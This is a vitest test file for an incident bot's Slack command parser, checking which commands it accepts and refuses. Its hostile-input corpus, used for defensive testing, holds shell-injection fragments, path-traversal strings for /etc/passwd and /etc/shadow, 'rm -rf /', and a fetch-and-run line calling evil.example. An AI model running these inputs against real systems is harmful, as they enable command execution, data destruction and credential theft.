import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parseCommand, unwrapSlack, USAGE, type Command } from '../../src/integrations/chat/commands.js';

const RUNBOOKS = ['connreset'] as const;

function ok(text: string): Command {
  const r = parseCommand(text, RUNBOOKS);
  if (!r.ok) throw new Error(`refused ${JSON.stringify(text)}: ${r.reason}`);
  return r.command;
}

function refused(text: string): string {
  const r = parseCommand(text, RUNBOOKS);
  if (r.ok) throw new Error(`accepted ${JSON.stringify(text)} as ${JSON.stringify(r.command)}`);
  expect(r.usage).toBe(USAGE);
  return r.reason;
}

/** A reason is one printable line of bounded length. */
function expectGoodReason(reason: string): void {
  expect(reason.length).toBeGreaterThan(0);
  expect(reason.length).toBeLessThanOrEqual(200);
  expect(reason).toMatch(/^[\x20-\x7e\u2026]+$/);
}

const SAFE_HOST = /^(?:[A-Za-z0-9._-]+|[0-9A-Fa-f:.]*:[0-9A-Fa-f:.]*)$/;

describe('parseCommand: accepted forms', () => {
  const investigate = (host: string, port: number): Command => ({ kind: 'investigate', runbook: 'connreset', target: { host, port } });
  it.each<[string, Command]>([
    ['connreset host-35:2133', investigate('host-35', 2133)],
    ['<@U0BOT> connreset host-35:2133', investigate('host-35', 2133)],
    ['<@U0BOT|triage>   connreset    host-35:2133  ', investigate('host-35', 2133)],
    ['<@U0BOT> <@U0ALICE> connreset host-35:2133', investigate('host-35', 2133)],
    ['<@U0BOT> connreset host-35:2133 <@U0ALICE>', investigate('host-35', 2133)],
    ['<@U0BOT> connreset <http://host-35:2133|host-35:2133>', investigate('host-35', 2133)],
    ['<@U0BOT> connreset <http://db.example.net:5432|db.example.net:5432>', investigate('db.example.net', 5432)],
    ['\tconnreset\nhost-35:2133\n', investigate('host-35', 2133)],
    ['ConnReset HOST-35:2133', investigate('HOST-35', 2133)],
    ['investigate connreset 10.0.0.1:80', investigate('10.0.0.1', 80)],
    ['connreset [::1]:2133', investigate('::1', 2133)],
    ['connreset [fe80::1]:22', investigate('fe80::1', 22)],
    ['connreset db_1.example.net:65535', investigate('db_1.example.net', 65535)],
    ['help', { kind: 'help' }],
    ['HELP', { kind: 'help' }],
    ['', { kind: 'help' }],
    ['   ', { kind: 'help' }],
    ['<@U0BOT>', { kind: 'help' }],
    ['<@U0BOT>  ', { kind: 'help' }],
    ['runbooks', { kind: 'runbooks' }],
    ['<@U0BOT> status', { kind: 'status' }],
    ['incident inc-mf3k2x-9a8b7c6d', { kind: 'incident', id: 'inc-mf3k2x-9a8b7c6d' }],
    ['<@U0BOT> incident INC-MF3K2X-9A8B7C6D', { kind: 'incident', id: 'inc-mf3k2x-9a8b7c6d' }],
  ])('%j', (text, expected) => {
    expect(ok(text)).toEqual(expected);
  });

  it('returns the runbook as the known list spells it', () => {
    const r = parseCommand('CONNRESET host-35:2133', ['connreset', 'diskfull']);
    expect(r).toEqual({ ok: true, command: { kind: 'investigate', runbook: 'connreset', target: { host: 'host-35', port: 2133 } } });
    const d = parseCommand('diskfull host-1:22', ['connreset', 'diskfull']);
    expect(d.ok && d.command.kind === 'investigate' && d.command.runbook).toBe('diskfull');
  });

  it('USAGE names every form', () => {
    for (const form of ['connreset HOST:PORT', 'runbooks', 'status', 'incident ID', 'help']) expect(USAGE).toContain(form);
  });
});

describe('unwrapSlack', () => {
  it.each([
    ['<@U0BOT> hi', '  hi'],
    ['<http://a.example:1|a.example:1>', 'a.example:1'],
    ['<http://a.example:1>', 'http://a.example:1'],
    ['<mailto:ops@example.net|ops@example.net>', 'ops@example.net'],
    ['<!channel>', ' @channel '],
    ['<!subteam^S123|@oncall>', ' @@oncall '],
    ['<#C123|incidents>', ' #incidents '],
    ['a &lt;b&gt; &amp;lt;', 'a <b> &lt;'],
  ])('%j → %j', (input, out) => {
    expect(unwrapSlack(input)).toBe(out);
  });
});

describe('parseCommand: refused forms, each with its reason', () => {
  it.each<[string, RegExp]>([
    ['diskfull host-35:2133', /unknown command or runbook "diskfull": runbooks are connreset/],
    ['<@U0BOT> restart everything', /unknown command or runbook "restart": runbooks are connreset/],
    ['investigate', /investigate needs a runbook and a target/],
    ['investigate diskfull host:1', /unknown command or runbook "diskfull"/],
    ['connreset', /connreset needs a target: connreset HOST:PORT/],
    ['<@U0BOT> connreset', /connreset needs a target/],
    ['connreset host-35', /"host-35" has no port/],
    ['connreset host-35:99999', /port 99999 is out of range/],
    ['connreset host-35:0', /port 0 is out of range/],
    ['connreset host-35:http', /"http" is not a port/],
    ['connreset host-35;reboot:2133', /"host-35;reboot" is not a host name/],
    ['connreset host-35:2133 now', /unexpected "now" after the target/],
    ['connreset host-35:2133 --force --yes', /unexpected "--force --yes" after the target/],
    ['connreset host-35:2133 <!channel>', /unexpected "@channel" after the target/],
    ['connreset <http://host-35:2133>', /"http:\/\/host-35" is not a host name/],
    ['connreset [fe80::1%eth0]:22', /"fe80::1%eth0" is not a host name/],
    ['connreset [nope]:22', /"nope" is not an IPv6 address/],
    ['help me', /help takes no arguments, got "me"/],
    ['status now', /status takes no arguments/],
    ['runbooks all', /runbooks takes no arguments/],
    ['incident', /incident needs an ID/],
    ['incident 42', /"42" is not an incident ID/],
    ['incident inc-abc-xyz', /"inc-abc-xyz" is not an incident ID/],
    ['incident inc-mf3k2x-9a8b7c6d extra', /unexpected "extra" after the incident ID/],
    ['incident ../../etc/passwd', /"..\/..\/etc\/passwd" is not an incident ID/],
    ['x'.repeat(1001), /the message is too long \(1001 characters\)/],
  ])('%j', (text, reason) => {
    const r = refused(text);
    expect(r).toMatch(reason);
    expectGoodReason(r);
  });

  it('echoes non-ASCII input escaped, never raw', () => {
    const r = refused('соnnreset host-35:2133'); // Cyrillic с and о
    expect(r).toContain('\\u{441}\\u{43e}nnreset');
    expectGoodReason(r);
  });

  it('names no runbooks when none are known', () => {
    const r = parseCommand('connreset host:1', []);
    expect(r.ok).toBe(false);
    expect(!r.ok && r.reason).toMatch(/runbooks are none/);
  });
});

/** Payloads a hostile or careless user might type where a word, a host or a port goes. */
const PAYLOADS = [
  ';reboot',
  '&&reboot',
  '&amp;&amp;reboot',
  '|sh',
  '||true',
  '$(id)',
  '`id`',
  '${IFS}',
  '$HOME',
  '>/etc/passwd',
  '&lt;/etc/passwd',
  "'",
  '"',
  "'host-35'",
  '"host-35"',
  '\\',
  '\n',
  '\r\n',
  '\u0000',
  '\u001b[31m',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  'ｈｏｓｔ',
  'һost',
  '..',
  '../..',
  '/etc/passwd',
  '~root',
  '%00',
  '%0a',
  '*',
  '?',
  '[',
  ']',
  '{a,b}',
  '#',
  '@evil',
  '!',
  '<!channel>',
  '<@U123>',
  '<http://evil.example|',
  '-oProxyCommand=sh',
  '\u0301',
  '🔥',
];

function hostileCorpus(): string[] {
  const out = new Set<string>();
  for (const p of PAYLOADS) {
    out.add(`connreset host-35${p}:2133`); // in the host
    out.add(`connreset host-35:2133${p}x`); // in the port
    out.add(`<@U0BOT> incident inc-mf3k2x-${p}9a8b`); // in an incident id
  }
  out.add(`connreset ${'a'.repeat(300)}:2133`);
  out.add(`connreset host-35:${'9'.repeat(50)}`);
  out.add(`connreset host:2133 ${'x'.repeat(5000)}`);
  out.add(`connreset ${'a.'.repeat(200)}b:1`);
  out.add('connreset -host:2133');
  out.add('connreset host-:2133');
  out.add('connreset .host:2133');
  out.add('connreset :2133');
  out.add('connreset host-35:');
  out.add('connreset host-35:-1');
  out.add('connreset host-35:+80');
  out.add('connreset host-35:0x50');
  out.add('connreset host-35:2133:22');
  out.add('connreset [::1];id:22');
  out.add('connreset [::1]:22;id');
  out.add('connreset [$(id)]:22');
  out.add('connreset <http://x|host-35:2133;reboot>');
  out.add('connreset <mailto:a@b|a@b>');
  out.add('connreset host-35:2133\u00a0reboot');
  out.add('connreset\u3000host-35:2133\u3000now');
  out.add('connreset host\u2028-35:2133');
  out.add('connreset host-35\uff1a2133');
  out.add('connreset host-35\u02d02133');
  out.add('conn\u200breset host-35:2133');
  out.add('\u202econnreset host-35:2133');
  out.add('connreset $(curl evil.example|sh):2133');
  out.add('connreset `reboot`:2133');
  out.add('status; reboot');
  out.add('help && rm -rf /');
  out.add('incident inc-1-a;reboot');
  out.add('incident $(id)');
  out.add('incident ../../../etc/shadow');
  out.add('runbooks > /tmp/x');
  out.add('rm -rf /');
  out.add('sudo connreset host-35:2133');
  out.add('<!channel> wake up');
  return [...out];
}

describe('parseCommand: hostile input', () => {
  const corpus = hostileCorpus();

  it('has at least 100 entries', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(100);
  });

  it.each(corpus.map((c) => [c]))('refuses %j with a printable one-line reason', (text) => {
    const r = parseCommand(text, RUNBOOKS);
    expect(r.ok).toBe(false);
    if (!r.ok) expectGoodReason(r.reason);
  });

  it('never throws, and never yields a host outside [A-Za-z0-9._-] (or an IPv6 address)', () => {
    const fragment = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.constantFrom(...PAYLOADS, 'connreset', 'host-35', ':', '2133', '[::1]', ' ', '<@U1>', '<http://a|b>', 'help', 'incident', 'inc-a-b'),
    );
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 8 }), fc.boolean(), (parts, spaced) => {
        const text = parts.join(spaced ? ' ' : '');
        const r = parseCommand(text, RUNBOOKS);
        if (!r.ok) {
          expectGoodReason(r.reason);
          return;
        }
        if (r.command.kind === 'investigate') {
          expect(r.command.target.host).toMatch(SAFE_HOST);
          expect(Number.isInteger(r.command.target.port)).toBe(true);
          expect(r.command.target.port).toBeGreaterThanOrEqual(1);
          expect(r.command.target.port).toBeLessThanOrEqual(65535);
        }
        if (r.command.kind === 'incident') expect(r.command.id).toMatch(/^inc-[a-z0-9]+-[0-9a-f]+$/);
      }),
      { numRuns: 2000 },
    );
  });

  it('survives non-string input at runtime', () => {
    expect(parseCommand(undefined as unknown as string, RUNBOOKS)).toEqual({ ok: true, command: { kind: 'help' } });
  });
});
